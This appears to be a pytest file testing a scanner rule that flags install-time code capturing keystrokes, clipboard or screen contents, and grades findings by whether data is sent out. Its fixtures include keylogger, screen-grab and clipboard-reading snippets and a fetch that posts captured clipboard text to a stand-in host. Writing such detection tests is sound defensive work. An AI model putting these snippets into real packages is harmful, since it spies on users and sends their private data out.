import pytest

from customhouse.rules.code.keys_or_screen_captured import RULE
from rules.cases import change, findings, grades, only
from rules.reading import of_text

SEND = "fetch('https://a.test/', { method: 'POST', body: taken })\n"
CLIP = "const c = require('clipboardy'); const taken = c.readSync()\n"
KEYS = "from pynput import keyboard\nkeyboard.Listener(on_press=print).start()\n"


@pytest.mark.parametrize(
    ("text", "path", "what"),
    [
        (CLIP, "setup.js", "the clipboard"),
        ("const s = require('screenshot-desktop'); s({ format: 'png' })", "setup.js", "the screen"),
        ("require('child_process').execSync('screencapture -x a.png')", "setup.js", "the screen"),
        ("require('child_process').execSync('powershell -c Get-Clipboard')", "setup.js", "the clipboard"),
        (KEYS, "setup.py", "keys"),
        ("import keyboard\nkeyboard.on_press(print)", "setup.py", "keys"),
        ("from PIL import ImageGrab\nImageGrab.grab().save('a.png')", "setup.py", "the screen"),
        ("import pyperclip\nprint(pyperclip.paste())", "setup.py", "the clipboard"),
        ("import ctypes\nctypes.windll.user32.GetAsyncKeyState(1)", "setup.py", "keys"),
    ],
)
def test_alone_at_install_holds(text, path, what):
    finding = only(RULE, of_text(text, path))
    assert (finding.severity, finding.confidence, finding.phase) == ("high", "medium", "install")
    assert f"captures {what}" in finding.message


def test_what_is_sent_and_what_stands_beside():
    assert grades(RULE, of_text(CLIP + SEND)) == [("critical", "high")]
    beside = "import requests\n" + KEYS + "requests.get('https://a.test/')"
    assert grades(RULE, of_text(beside, "a.py", "import")) == [("high", "high")]
    assert grades(RULE, of_text(KEYS, "a.py", "import")) == [("medium", "medium")]
    assert grades(RULE, of_text(CLIP + SEND, change=change())) == [("medium", "medium")]


def test_when_it_is_called():
    later = "module.exports = () => {" + CLIP + "return taken }"
    sent = "module.exports = () => {" + CLIP + SEND + "}"
    assert findings(RULE, of_text(later, "index.js", "import")) == []
    assert grades(RULE, of_text(sent, "index.js", "import")) == [("medium", "medium")]
